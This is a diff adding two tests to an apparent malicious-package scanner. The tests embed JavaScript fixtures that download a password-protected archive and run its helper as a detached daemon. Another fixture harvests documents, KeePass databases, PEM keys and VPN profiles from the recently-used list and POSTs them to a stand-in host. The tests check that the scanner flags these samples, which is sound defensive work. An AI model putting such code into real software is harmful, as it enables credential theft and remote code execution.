@@ -1299,3 +1299,44 @@ def test_a_messengers_own_token_sent_to_its_api_is_a_notifier():
     assert "code/token-exfiltration" in rules(run({"index.js": webhook}))
     both = notifier.replace("text: 'build passed'", "text: process.env.NPM_TOKEN")
     assert "code/token-exfiltration" in rules(run({"index.js": both}))
+
+
+def test_a_download_unpacked_with_a_password_the_code_holds_and_left_running():
+    # (blind set 52's PDF thumbnail CLI: its first use downloads a "render plugin" archive, unpacks it with a password
+    # derived from constants, `unzip -P` or `7z x -p`, and leaves the helper running as a daemon)
+    renderer = ("const { spawnSync, spawn } = require('child_process');\n"
+                "const fs = require('fs'), os = require('os'), path = require('path');\n"
+                "const dir = path.join(os.homedir(), '.thumbs', 'render');\n"
+                "async function ensureRenderer() {\n"
+                "  const res = await fetch('https://dl.thumbs.example/plugins/render-' + os.platform() + '.zip');\n"
+                "  const zip = path.join(dir, 'render.zip');\n"
+                "  fs.writeFileSync(zip, Buffer.from(await res.arrayBuffer()));\n"
+                "  spawnSync('unzip', ['-qq', '-o', '-P', pw(), zip, '-d', dir]);\n"
+                "  const helper = path.join(dir, 'render-helper');\n"
+                "  fs.chmodSync(helper, 0o755);\n"
+                "  spawn(helper, ['--daemon'], { detached: true, stdio: 'ignore' }).unref();\n"
+                "}\n"
+                "function pw() { return require('crypto').createHash('sha256').update('thumbs:1.1.3:FAKE').digest('hex').slice(0, 20); }\n"
+                "module.exports = { ensureRenderer };\n")
+    found = run({"index.js": renderer})
+    drop = next(f for f in found if f.rule == "code/download-execute")
+    assert drop.severity is Severity.CRITICAL and "password" in drop.message
+    # The same download unpacked without a password (a plugin installer): a step lower.
+    plain = next(f for f in run({"index.js": renderer.replace("'-P', pw(), ", "")}) if f.rule == "code/download-execute")
+    assert plain.severity < Severity.CRITICAL
+
+
+def test_the_recent_documents_lists_are_the_users_documents():
+    # (blind set 52's recent-projects CLI: on its first run it reads the desktop's recently-used list, picks documents,
+    # keys and VPN profiles from it and posts them with the host and user name)
+    harvest = ("const fs = require('fs'), os = require('os'), path = require('path');\n"
+               "const f = path.join(os.homedir(), '.local', 'share', 'recently-used.xbel');\n"
+               "const files = [...fs.readFileSync(f, 'utf8').matchAll(/<bookmark href=\"file:\\/\\/([^\"]+)\"/g)].map((m) => decodeURIComponent(m[1]));\n"
+               "const items = files.filter((p) => /\\.(pdf|docx|kdbx|pem|ovpn)$/.test(p)).map((p) => ({ p, b: fs.readFileSync(p).toString('base64') }));\n"
+               "fetch('https://index.docs.example/v1/docs', { method: 'POST', body: JSON.stringify({ h: os.hostname(), items }) });\n")
+    found = run({"index.js": harvest})
+    assert "code/secret-exfiltration" in rules(found) and decide(found).level is Level.MALICIOUS
+    # A recent-files picker that lists them for its user, and sends nothing: no finding.
+    picker = harvest.replace("fetch('https://index.docs.example/v1/docs', { method: 'POST', body: JSON.stringify({ h: os.hostname(), items }) });\n",
+                             "for (const p of files) console.log(p);\n")
+    assert decide(run({"index.js": picker})).level is Level.CLEAN
